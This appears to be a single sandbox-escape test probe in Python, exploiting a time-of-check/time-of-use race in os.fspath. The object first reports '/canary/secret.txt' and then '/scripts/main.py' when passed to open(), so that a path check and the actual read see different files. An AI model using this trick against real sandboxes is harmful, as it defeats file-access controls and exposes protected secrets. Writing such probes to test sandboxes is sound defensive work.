# READ: same __fspath__ TOCTOU but through builtins.open (FileIO)
class P:
    n = 0
    def __fspath__(self):
        P.n += 1
        return '/canary/secret.txt' if P.n == 1 else '/scripts/main.py'
print(open(P()).read())
